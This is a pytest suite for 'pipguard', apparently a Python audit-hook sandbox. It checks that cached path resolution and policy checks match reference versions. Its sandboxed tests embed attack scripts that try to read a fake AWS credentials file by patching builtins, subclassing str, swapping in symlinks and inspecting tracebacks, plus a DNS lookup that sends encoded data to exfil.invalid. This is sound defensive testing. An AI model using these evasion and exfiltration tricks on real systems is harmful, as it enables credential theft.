"""The audit hook's fast paths decide exactly what its slow path decides.

Unit tests build a hook in this process (not installed) and compare its
cached path resolution with the reference ``resolve()``, and its policy
checks with a copy of the straightforward version they replaced; sandboxed
tests show that caches, tracebacks and patched builtins open nothing.
"""

from __future__ import annotations

import builtins
import dis
import importlib.util
import ipaddress
import os
import random
import sys
import textwrap
import types

import pytest

from pg import pipguard
from pipguard import rules

PY = sys.executable
HOOK_FILE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "pipguard", "sandbox", "_hook",
                         "_pipguard_hook.py")


def load_hook_module():
    spec = importlib.util.spec_from_file_location("_pipguard_hook_under_test", HOOK_FILE)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def config(**over):
    base = {"homes": [], "sandbox_home": "", "read": [], "write": [], "write_files": [],
            "network": "none", "hosts": [], "subprocess": True, "supervisor_pid": 1, "fifo": "",
            "hook_dir": os.path.dirname(HOOK_FILE), "rules": rules.hook_table()}
    base.update(over)
    return base


def internals(hook):
    """The hook's helpers by name, found through default arguments and cells."""
    found, todo, seen = {}, [hook], set()
    while todo:
        fn = todo.pop()
        if id(fn) in seen:
            continue
        seen.add(id(fn))
        found.setdefault(fn.__name__, fn)
        values = list(fn.__defaults__ or ()) + list((fn.__kwdefaults__ or {}).values())
        values += [c.cell_contents for c in fn.__closure__ or ()]
        todo.extend(v for v in values if isinstance(v, types.FunctionType))
    return found


def defaults(fn):
    """name -> default value of a function's positional parameters."""
    code = fn.__code__
    names = code.co_varnames[:code.co_argcount]
    return dict(zip(names[len(names) - len(fn.__defaults__):], fn.__defaults__))


# --- path resolution -----------------------------------------------------------------------------

def make_tree(root, rng):
    """Directories, files, hard links and symlinks (relative, absolute, dangling, looping)."""
    dirs = [root]
    for i in range(12):
        d = os.path.join(rng.choice(dirs), "d%d" % i)
        os.mkdir(d)
        dirs.append(d)
    files = []
    for i in range(20):
        f = os.path.join(rng.choice(dirs), "f%d" % i)
        with open(f, "w") as fh:
            fh.write("x")
        files.append(f)
    os.link(files[0], os.path.join(dirs[1], "hard"))
    links = []
    for i in range(14):
        where = os.path.join(rng.choice(dirs), "l%d" % i)
        target = rng.choice(dirs + files + ["/etc", "/proc/self", "nowhere", "../d1", "l%d" % i])
        if rng.random() < 0.5 and target.startswith(root):
            target = os.path.relpath(target, os.path.dirname(where))
        os.symlink(target, where)
        links.append(where)
    return dirs, files, links


def path_forms(root, entries, rng):
    out = []
    for p in entries:
        rel = os.path.relpath(p, root)
        out += [p, rel, "./" + rel, p + "/", p + "/.", p + "/..", p + "/x", p + "//x",
                os.path.join(p, "..", os.path.basename(p)), rel + "/f0", "/proc/self/root" + p]
    out += ["", ".", "..", "/", "/proc/self/fd/0", "/proc/self/status", "/etc/passwd", "/etc/ssh/x"]
    rng.shuffle(out)
    return out


def test_cached_resolution_equals_resolve_through_symlink_swaps(tmp_path, monkeypatch):
    rng = random.Random(7)
    root = str(tmp_path / "tree")
    os.mkdir(root)
    dirs, files, links = make_tree(root, rng)
    monkeypatch.chdir(root)
    fns = internals(load_hook_module()._make_hook(config(write=[str(tmp_path)]))[0])
    locate, resolve = fns["locate"], fns["resolve"]
    for round_ in range(6):
        paths = path_forms(root, dirs + files + links, rng)
        for _ in range(2):  # the second pass is served by the caches
            for p in paths:
                for follow in (True, False):
                    assert locate(p, follow) == resolve(p, None, follow), (round_, p, follow)
        # Another process changes the tree (no audit event here): a directory or
        # file is moved away and a symlink or a new directory takes its name.
        for _ in range(4):
            victim = rng.choice(dirs[1:] + files)
            try:
                os.rename(victim, victim + ".old%d" % round_)
            except OSError:
                continue
            if rng.random() < 0.7:
                os.symlink(rng.choice(dirs + files + ["/etc"]), victim)
            elif victim in dirs:
                os.mkdir(victim)
            else:
                open(victim, "w").close()


def test_cached_resolution_follows_the_working_directory(tmp_path, monkeypatch):
    a, b = tmp_path / "a", tmp_path / "b"
    for d in (a, b):
        (d / "sub").mkdir(parents=True)
        (d / "sub" / "f").write_text("x")
    fns = internals(load_hook_module()._make_hook(config())[0])
    for d in (a, b, a, b):
        monkeypatch.chdir(d)
        for p in ("f", "sub", "sub/f", "sub/g", "."):
            assert fns["locate"](p) == fns["resolve"](p)


def counted(fn, calls):
    def wrapper(path):
        calls.append(fn.__name__)
        return fn(path)
    return wrapper


def test_cached_resolution_costs_one_or_two_system_calls(tmp_path):
    deep = tmp_path / "a" / "b" / "c" / "d"
    deep.mkdir(parents=True)
    (deep / "known").write_text("x")
    (deep / "new").write_text("x")
    fns = internals(load_hook_module()._make_hook(config())[0])
    locate = fns["locate"]
    known, new = str(deep / "known"), str(deep / "new")
    assert locate(known) == known  # cold: one lstat per component
    calls = []
    spy = {"_stat": counted(os.stat, calls), "_lstat": counted(os.lstat, calls)}
    assert locate(known, True, **spy) == known
    assert calls == ["lstat"]  # the file itself, validated by its inode
    del calls[:]
    assert locate(new, True, **spy) == new
    assert calls == ["stat", "lstat"]  # its directory by inode, then the file
    del calls[:]
    assert locate(str(deep / "missing"), False, **spy) == str(deep / "missing")
    assert calls == ["stat"]


def test_python_renames_and_removals_forget_cached_paths(tmp_path):
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "f").write_text("x")
    hook = load_hook_module()._make_hook(config(write=[str(tmp_path)]))[0]
    fns = internals(hook)
    files, dirs = defaults(fns["locate"])["_files"], defaults(fns["locate"])["_dirs"]
    hook("open", (str(tmp_path / "d" / "f"), "r", 0))
    assert files and dirs
    hook("os.remove", (str(tmp_path / "d" / "f"), -1))
    assert not files and dirs
    hook("open", (str(tmp_path / "d" / "f"), "r", 0))
    hook("os.rename", (str(tmp_path / "d"), str(tmp_path / "e"), -1, -1))
    assert not files and not dirs
    hook("open", (str(tmp_path / "d" / "f"), "r", 0))
    hook("os.rmdir", (str(tmp_path / "d"), -1))
    assert not files and not dirs


# --- policy checks -------------------------------------------------------------------------------

class Reference:
    """The rule table's own decisions (pipguard.rules): plain loops over roots and names."""

    def __init__(self, mod, cfg):
        self.grants = rules.Grants.of(cfg["homes"], cfg["sandbox_home"], cfg["read"], cfg["write"],
                                      cfg["write_files"])

    @staticmethod
    def inside(pid):
        return pid == os.getpid()

    def check_read(self, path):
        rule = rules.read_rule(path, self.grants, self.inside)
        return None if rule == "config-lookup" else rule  # allowed (reported, not refused)

    def check_write(self, path):
        return rules.write_rule(path, self.grants, self.inside)


def rule_of(message):
    return message.split("(rule ", 1)[1].split(")", 1)[0] if message else None


POLICIES = [
    config(homes=["/home", "/home/alice", "/root"], sandbox_home="/tmp/pg/home",
           read=["/root/.pyenv/versions/3.11", "/usr", "/opt/x/", "/etc/ssh/ok", "/tmp/pg/home/.netrc"],
           write=["/tmp/pg/tmp", "/tmp/pg/home", "/work/proj", "/root/proj", "/home/alice/.aws/w"],
           write_files=["/tmp/pg/events.fifo", "/root/.bashrc"]),
    config(homes=["/"], sandbox_home="", read=["/"], write=["/w"]),
    config(homes=["/h/"], sandbox_home="/h", read=[], write=["/"]),
    config(homes=["/root", "/home/bob"], sandbox_home="/tmp/sb/", read=["/root/.local/share/x"],
           write=["/tmp/sb", "/home/bob/.config"]),
]


def policy_paths(mod, cfg):
    names = rules.CREDENTIAL_PATHS + rules.PERSISTENCE_PATHS + rules.CONFIG_LOOKUPS
    variants = set()
    for n in names:
        variants.update({n, n + "/x", n + "x", n + "/a/b", n.split("/")[0], n.rsplit("/", 1)[0] + "/y",
                         "x/" + n})
    bases = set(cfg["homes"] + cfg["read"] + cfg["write"] + [cfg["sandbox_home"], "/", "/etc", "/tmp"])
    paths = set(cfg["write_files"])
    for base in bases:
        base = base.rstrip("/")
        paths.add(base or "/")
        paths.update(base + "/" + v for v in variants)
    for secret in rules.ETC_SECRETS:
        paths.update({secret, secret + "/x", secret + "x", secret[:-1]})
    pid, other = os.getpid(), os.getpid() + 1
    for p in (pid, other):
        for leaf in ("environ", "status", "fd/3", "task/9/environ", "task/9/stat", "task", "cwd/x"):
            paths.add("/proc/%d/%s" % (p, leaf))
    paths.update({"/proc/self/environ", "/proc/12x/environ", "/dev/null", "/dev/pts/3", "/dev/sda",
                  "pipe:[12]", "socket:[3]", "anon_inode:[x]", "/devnull", ""})
    # Siblings of every path above, in every directory on the way to it: the
    # verdicts are remembered per directory too.
    leaves = {p.rsplit("/", 1)[-1] for p in paths} | {"x", "y.py", "z"}
    dirs = {p[:i] for p in paths for i in range(1, len(p)) if p[i] == "/"}
    rng = random.Random(5)
    siblings = sorted(d + "/" + leaf for d in dirs for leaf in leaves)
    paths = sorted(paths) + rng.sample(siblings, min(len(siblings), 40000))
    rng.shuffle(paths)
    return paths


@pytest.mark.parametrize("index", range(len(POLICIES)))
def test_policy_checks_match_the_reference(index):
    mod = load_hook_module()
    cfg = POLICIES[index]
    fns = internals(mod._make_hook(cfg)[0])
    ref = Reference(mod, cfg)
    for path in policy_paths(mod, cfg):
        for _ in range(2):  # the second call may come from the memo of readable paths
            assert rule_of(fns["check_read"](path)) == ref.check_read(path), ("read", path)
            assert rule_of(fns["check_write"](path)) == ref.check_write(path), ("write", path)


def test_ip_literal_test_matches_ipaddress():
    mod = load_hook_module()

    def reference(text):
        try:
            ipaddress.ip_address(text)
            return True
        except ValueError:
            return False

    rng = random.Random(3)
    cases = ["1.2.3.4", "01.2.3.4", "::", "::1", "1::", "::ffff:1.2.3.4", "fe80::1%eth0", "fe80::1%",
             "1:2:3:4:5:6:7:8", "1:2:3:4:5:6:7:8:9", "1::2::3", "١.٢.٣.٤", "exfil.invalid", ""]
    cases += ["".join(rng.choice("0123456789abcdefg:.%") for _ in range(rng.randint(0, 16)))
              for _ in range(20000)]
    cases += [":".join(rng.choice(["", "0", "ffff", "12345", "1.2.3.4", "g"]) for _ in range(rng.randint(1, 10)))
              for _ in range(20000)]
    for text in cases:
        assert mod._is_numeric(text) == reference(text), text


def test_event_time_code_reads_no_module_globals():
    """Globals are the program's to rebind (frame.f_globals); builtins are a private copy."""
    mod = load_hook_module()
    allowed = set(dir(builtins))
    install_time = {"fork_exec_wrapper": {"_fork_exec_factory"}}

    def code_objects(code):
        yield code
        for const in code.co_consts:
            if isinstance(const, types.CodeType):
                yield from code_objects(const)

    roots = [mod._make_hook.__code__, mod._fork_exec_factory.__code__, mod._is_numeric.__code__,
             mod._ipv4.__code__]
    for root in roots:
        for code in code_objects(root):
            if code in roots[:2]:
                continue  # the factories themselves run once, at install time
            names = {i.argval for i in dis.get_instructions(code) if i.opname == "LOAD_GLOBAL"}
            extra = names - allowed - install_time.get(code.co_name, set())
            assert not extra, (code.co_name, extra)
    assert mod.__builtins__ is not vars(builtins) and mod.__builtins__["len"] is len


# --- in the sandbox --------------------------------------------------------------------------------

@pytest.fixture
def work(tmp_path):
    d = tmp_path / "work"
    d.mkdir()
    return d


def run_py(code, work, home):
    script = work / "attack.py"
    script.write_text(textwrap.dedent(code))
    return pipguard(["run", "--isolation", "audit", "--", PY, str(script)], cwd=work, env=home.env())


def test_denial_traceback_leads_to_nothing_of_the_hook(work, fake_home):
    secret = str(fake_home.secrets["aws"])
    r = run_py(f"""
        import types
        def attempt():
            try:
                print(open({secret!r}).read())
            except PermissionError as exc:
                print("denied")
                return exc
        exc = attempt()
        tb, exposed = exc.__traceback__, []
        while tb is not None:
            frame = tb.tb_frame
            if "_pipguard" in frame.f_code.co_filename:
                for key, value in frame.f_locals.items():
                    if isinstance(value, (types.FunctionType, dict, list, set)) or callable(value):
                        exposed.append(key)
                        for cell in getattr(value, "__closure__", None) or ():
                            try:
                                cell.cell_contents = lambda *a, **k: None
                            except Exception:
                                pass
            tb = tb.tb_next
        print("exposed", exposed)
        attempt()
    """, work, fake_home)
    assert "PIPGUARD-FAKE-SECRET" not in r.stdout, r.stdout + r.stderr
    assert r.stdout.count("denied") == 2 and "exposed []" in r.stdout, r.stdout + r.stderr
    assert r.blocked(kind="file-read", rule="secret-read")  # repeats of one target are merged


def test_symlink_swapped_in_behind_cached_paths_is_seen(work, fake_home):
    """Paths resolved once, then replaced by symlinks into the home by another
    process (a shell: no audit event): the caches must not answer for them."""
    home = str(fake_home.path)
    r = run_py(f"""
        import os, subprocess
        os.mkdir("d")
        for name in ("d/credentials", "f", "g"):
            open(name, "w").write("mine")
        for _ in range(3):  # now cached
            open("d/credentials").read(); open("f").read(); open(os.path.abspath("g")).read()
            os.listdir("d")
        subprocess.run(["/bin/sh", "-c", "mv d d.old && ln -s {home}/.aws d && "
                        "mv f f.old && ln -s {home}/.aws/credentials f && "
                        "mv g g.old && mkdir -p sub && ln -s {home}/.aws/credentials sub/g && "
                        "mv sub gdir && ln -s gdir/g g"], check=True)
        for attempt in ("open('d/credentials').read()", "open('f').read()",
                        "open(os.path.abspath('g')).read()", "os.listdir('d')",
                        "open(os.path.abspath('d') + '/credentials').read()"):
            try:
                print("READ", eval(attempt))
            except PermissionError:
                print("denied")
    """, work, fake_home)
    assert "PIPGUARD-FAKE-SECRET" not in r.stdout and "READ" not in r.stdout, r.stdout + r.stderr
    assert r.stdout.count("denied") == 5, r.stdout + r.stderr
    home = os.path.realpath(home)
    assert set(r.targets(kind="file-read")) == {home + "/.aws", home + "/.aws/credentials"}, r.report


TAMPERING = {
    "patched builtins": """
        import builtins
        real = builtins.isinstance
        builtins.isinstance = lambda o, t: t is int or real(o, t)
        try:
            data = open(SECRET).read()
        finally:
            builtins.isinstance = real
        print("STOLEN", data)
    """,
    "str subclass": """
        class S(str):
            def startswith(self, *a): return str.startswith("/tmp/x", *a)
            def split(self, *a): return "/tmp/x".split(*a)
            def rfind(self, *a): return "/tmp/x".rfind(*a)
        print("STOLEN", os.read(os.open(S(SECRET), os.O_RDONLY), 100))
    """,
    "bytes with patched os.fspath": """
        path = SECRET.encode()
        os.fspath = lambda p: "/tmp/x"
        print("STOLEN", open(path, "rb").read())
    """,
    "rename with src_dir_fd and an absolute path": """
        fd = os.open(".", os.O_RDONLY)
        os.rename(SECRET, "moved", src_dir_fd=fd)
        print("STOLEN", open("moved").read())
    """,
    "sqlite3 with a pathlib.Path": """
        import pathlib, sqlite3
        sqlite3.connect(pathlib.Path(SECRET)).execute("select 1")
        print("STOLEN")
    """,
}


@pytest.mark.parametrize("how", sorted(TAMPERING))
def test_tampering_does_not_unlock_a_secret(work, fake_home, how):
    secret = str(fake_home.secrets["aws"])
    body = textwrap.indent(textwrap.dedent(TAMPERING[how]), "    ")
    r = run_py(f"import os\nSECRET = {secret!r}\ntry:\n{body}\nexcept PermissionError:\n    print('denied')\n",
               work, fake_home)
    assert "STOLEN" not in r.stdout and "denied" in r.stdout, r.stdout + r.stderr
    assert any(t.endswith(".aws/credentials") for t in r.targets()), r.report
    assert fake_home.secrets["aws"].exists()


def test_fake_ipaddress_module_does_not_unlock_dns(work, fake_home):
    r = run_py("""
        import socket, sys, types
        sys.modules["ipaddress"] = types.SimpleNamespace(ip_address=lambda name: name)
        try:
            socket.getaddrinfo("c2VjcmV0.exfil.invalid", 80)
            print("LOOKED UP")
        except PermissionError:
            print("denied")
        except OSError:
            print("LOOKED UP")
    """, work, fake_home)
    assert "denied" in r.stdout, r.stdout + r.stderr
    assert "c2VjcmV0.exfil.invalid" in r.targets(kind="network", rule="dns-lookup")
